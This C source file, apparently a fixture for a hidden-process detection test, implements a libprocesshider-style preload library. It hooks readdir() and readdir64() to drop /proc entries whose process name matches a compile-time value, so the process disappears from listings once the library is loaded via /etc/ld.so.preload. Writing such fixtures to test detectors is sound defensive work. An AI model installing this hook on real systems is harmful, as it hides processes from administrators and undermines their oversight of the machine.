/* A libprocesshider-like preload library, for tests/test_hidden_processes.py only.
 *
 * Put in /etc/ld.so.preload, it hooks readdir() and readdir64() in every dynamically linked
 * program: an entry of a directory listing /proc whose process's comm is HIDE_NAME (set at
 * compile time, -DHIDE_NAME="\"name\"") is skipped, as the public libprocesshider does for
 * mining campaigns. Everything else passes through untouched: it only reads /proc/self/fd/N
 * (to tell a /proc listing) and /proc/PID/comm of the entries of such a listing.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifndef HIDE_NAME
#error "compile with -DHIDE_NAME='\"name\"'"
#endif

static int is_proc_listing(DIR *dirp)
{
    char link[64], target[256];
    int fd = dirfd(dirp);
    if (fd < 0)
        return 0;
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n < 0)
        return 0;
    target[n] = '\0';
    return strcmp(target, "/proc") == 0;
}

static int hidden(DIR *dirp, const char *name)
{
    char path[64], comm[64];
    if (name[0] < '0' || name[0] > '9' || !is_proc_listing(dirp))
        return 0;
    for (const char *p = name; *p; p++)
        if (*p < '0' || *p > '9')
            return 0;
    snprintf(path, sizeof path, "/proc/%s/comm", name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, comm, sizeof comm - 1);
    close(fd);
    if (n <= 0)
        return 0;
    comm[n] = '\0';
    comm[strcspn(comm, "\n")] = '\0';
    return strcmp(comm, HIDE_NAME) == 0;
}

struct dirent *readdir(DIR *dirp)
{
    static struct dirent *(*next)(DIR *);
    if (!next)
        next = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
    struct dirent *e;
    while ((e = next(dirp)) != NULL && hidden(dirp, e->d_name))
        ;
    return e;
}

struct dirent64 *readdir64(DIR *dirp)
{
    static struct dirent64 *(*next)(DIR *);
    if (!next)
        next = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *e;
    while ((e = next(dirp)) != NULL && hidden(dirp, e->d_name))
        ;
    return e;
}
